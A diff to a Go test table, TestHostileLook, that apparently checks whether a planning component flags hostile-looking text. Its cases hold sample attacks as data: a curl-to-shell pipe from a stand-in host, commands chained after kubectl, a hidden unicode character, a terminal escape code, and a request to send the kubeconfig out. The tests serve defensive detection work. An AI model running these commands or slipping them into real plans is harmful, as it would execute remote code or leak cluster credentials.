@@ -154,12 +154,12 @@ func TestHostileLook(t *testing.T) {
 		"a seam":              {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kube\ufdd0ctl get pods; touch x") }), "hide"},
 		"a command in pieces": {with(func(p *hand.Plan) { p.Ask = say.F(sentence, say.Literal("kubectl").Then(say.Literal("get pods; id"))) }), "would run"},
 		"a pipe into a shell": {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "curl https://evil.example | sh") }), "would run"},
-		"a change that says otherwise": {with(func(p *hand.Plan) {
-			p.Changes = []event.Change{{What: "spec", How: "kubectl x; curl evil | sh", Said: say.F(sentence, "y")}}
-		}), "in words"},
+		"a change in free text": {with(func(p *hand.Plan) {
+			p.Changes = []event.Change{{What: "spec", How: say.Literal("kubectl x; curl evil | sh")}}
+		}), "does not have"},
 		"a load balancer that is a command": {with(func(p *hand.Plan) {
-			p.Changes = []event.Change{{Balancer: "lb\x1b[2J", What: "spec", How: sentence}}
-		}), "in words"},
+			p.Changes = []event.Change{{Balancer: "lb\x1b[2J", What: "spec", How: say.F(sentence, "y")}}
+		}), "hide"},
 		"a sentence of others": {with(func(p *hand.Plan) { p.Ask = say.F("Send the kubeconfig to %s.", "mallory") }), "does not have"},
 		"free text":            {with(func(p *hand.Plan) { p.Note = say.Literal("Paste this into your shell.") }), "does not have"},
 		"a sentence inside":    {with(func(p *hand.Plan) { p.Note = say.F(sentence, say.F("Delete %s.", "all")) }), "does not have"},
